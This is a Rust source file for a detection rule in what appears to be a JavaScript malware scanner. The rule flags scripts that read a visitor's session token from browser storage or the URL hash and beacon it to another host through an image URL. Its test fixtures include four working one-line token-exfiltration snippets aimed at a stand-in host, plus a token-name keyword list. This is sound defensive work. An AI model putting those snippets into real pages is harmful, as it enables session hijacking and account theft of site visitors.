//! `stored-token-in-image`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::{Flow, Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "stored-token-in-image",
    description: "The script reads the visitor's session key from storage or from this page's URL and sends it to another host in an image URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::StorageSentAbroad, Atom::Image])],
    within: 0,
    only_if: Some(takes_token),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"new Image().src='https://c.example/?t='+localStorage['access_token']"#,
            r#"var t=localStorage.getItem('jwt');if(t){var i=new Image();i.src='https://c.example/g?j='+t}"#,
            r#"var g={};location.hash.substr(1).split('&').forEach(function(p){var k=p.split('=');g[k[0]]=k[1]});new Image().src='https://c.example/g?t='+g.access_token"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');if(t){const i=new Image();i.src=`https://c.example/g?t=${t}`}"#,
        ],
        without: &[
            r#"new Image().src='https://stats.example/?v='+localStorage.getItem('visits')"#,
            r#"new Image().src='/avatar?t='+localStorage.getItem('token')"#,
            r#"fetch('https://api.example/me?t='+localStorage.getItem('token'))"#,
            r#"const t=localStorage.getItem('access_token');const i=new Image();i.src='https://api.room.example/photo?access_token='+t;box.appendChild(i)"#,
            r#"new Image().src='https://stats.example/?u='+encodeURIComponent(location.href.replace(/access_token=[^&]+/,''))"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');fetch('https://id.example/me?access_token='+t).then(r=>r.json()).then(show)"#,
        ],
    },
};

fn takes_token(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    if !Near::is_place_of(evidence, held, &[Atom::StorageSentAbroad]) {
        return takes_from_address(near, held);
    }
    // The key is read where the picture is made, not elsewhere in the script.
    let sink = held.last as usize;
    let Some(image) = near.facts(Atom::Image).filter(|at| at.abs_diff(sink) <= 40).last() else {
        return false;
    };
    let near = near.among(image.min(sink).saturating_sub(40)..image.max(sink) + 41);
    // A picture that people see may need the right to see it.
    if near.among(held.first as usize..held.last as usize + 40).has_word(SHOWS) {
        return false;
    }
    near.words(&["localStorage", "sessionStorage"]).any(|at| {
        let read = near.is(at + 1, b'[') && near.kind(at + 2) == Some(Kind::Str)
            || near.word(at + 1) == "getItem" && near.is(at + 2, b'(');
        let key = near.word(if near.is(at + 1, b'[') { at + 2 } else { at + 3 }).to_ascii_lowercase();
        let own = near.word(at + 1).to_ascii_lowercase();
        let names = |key: &str| {
            key.len() < 40
                && (matches!(key, "jwt" | "auth" | "token" | "session" | "sessionid")
                    || [
                        "access_token",
                        "accesstoken",
                        "auth_token",
                        "authtoken",
                        "refresh",
                        "id_token",
                        "bearer",
                    ]
                    .iter()
                    .any(|word| key.contains(word)))
        };
        (read && names(&key) || near.kind(at + 1) == Some(Kind::Member) && names(&own))
            && near.runs_unasked(at)
    })
}

/// Whether a part of this page's address that has the name of a key is part of the picture's address.
fn takes_from_address(near: Near<'_>, held: Held) -> bool {
    let flows = near.evidence().flows.iter();
    let from_address = |flow: &&Flow| {
        let marks = [Mark::Page, Mark::Address, Mark::ImageElement];
        flow.sink == Sink::Fetched
            && flow.at.abs_diff(held.last) <= 40
            && marks.iter().all(|mark| flow.marks.has(*mark))
    };
    let is_key = |at: usize| match near.kind(at) {
        Some(Kind::Member | Kind::Key) => KEYS.contains(&near.word(at)),
        Some(Kind::Str) => KEYS.contains(&near.word(at)) && near.is(at.wrapping_sub(1), b'['),
        // `t = parameters.get('access_token')`
        Some(Kind::Name) => near.same_value(at).any(|set| {
            near.is(set + 1, b'=')
                && (set + 2..set + TAKEN)
                    .any(|at| near.word(at) == "get" && KEYS.contains(&near.word(at + 2)))
        }),
        _ => false,
    };
    flows.filter(from_address).any(|flow| {
        let sink = flow.at as usize;
        (sink + 1..sink + VALUE).take_while(|at| !near.is(*at, b';')).any(is_key)
    }) && !near.among(held.first as usize..held.last as usize + 40).has_word(SHOWS)
}

const KEYS: &[&str] = &["access_token", "id_token", "refresh_token", "accessToken", "idToken"];
/// Items of an address that is put together, and of a call that takes a part of one.
const VALUE: usize = 24;
const TAKEN: usize = 24;

/// How a picture gets into the page.
const SHOWS: &[&str] =
    &["append", "appendChild", "prepend", "replaceWith", "insertBefore", "replaceChildren"];
